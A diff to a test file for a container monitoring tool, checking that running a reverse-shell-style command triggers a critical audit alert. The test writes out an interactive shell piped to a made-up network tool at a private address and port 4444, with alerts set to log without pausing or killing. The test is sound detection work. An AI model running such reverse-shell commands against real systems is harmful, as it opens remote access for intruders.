@@ -24,7 +24,8 @@ const name = containerName('/monitor-test/cli', 1, TEST_PREFIX);
 
 beforeAll(() => {
   ensureBuilt();
-  box = new CoiSandbox('');
+  // Alerts only: the critical alert below neither pauses nor kills (no forensic copy).
+  box = new CoiSandbox('[monitoring]\nauto_pause_on_high = false\nauto_kill_on_critical = false\n');
   incus = Incus.local();
   // A `coi update patterns` database naming one more network tool, read when the daemon starts.
   mkdirSync(join(box.coiDir, 'gtfobins', '_gtfobins'), { recursive: true });
@@ -114,11 +115,12 @@ describe('coi monitor --daemon, coi monitor, coi audit', () => {
 
   it('takes a shell wired to a network tool of the GTFOBins database for a reverse shell', async () => {
     const auditFile = join(box.coiDir, 'audit', `${name}.jsonl`);
-    // coinettool exists nowhere: the command line alone is the signal. Critical may kill the
-    // container, so this is the last use of it.
-    await incus.exec
-      .run(name, ['sh', '-c', 'sleep 2 | sh -i 2>/dev/null | coinettool 10.99.0.1 4444; sleep 2'])
-      .catch(() => undefined);
+    // coinettool exists nowhere: the command line alone is the signal.
+    await incus.exec.run(name, [
+      'sh',
+      '-c',
+      'sleep 2 | sh -i 2>/dev/null | coinettool 10.99.0.1 4444; sleep 2',
+    ]);
     const alert = await poll(
       async () => {
         try {
@@ -132,7 +134,7 @@ describe('coi monitor --daemon, coi monitor, coi audit', () => {
       15_000,
       () => 'no shell-net-tool alert in the audit log',
     );
-    expect(JSON.parse(alert)).toMatchObject({ level: 'critical' });
+    expect(JSON.parse(alert)).toMatchObject({ level: 'critical', action: 'alerted' });
     expect(alert).toContain('coinettool');
   });
 
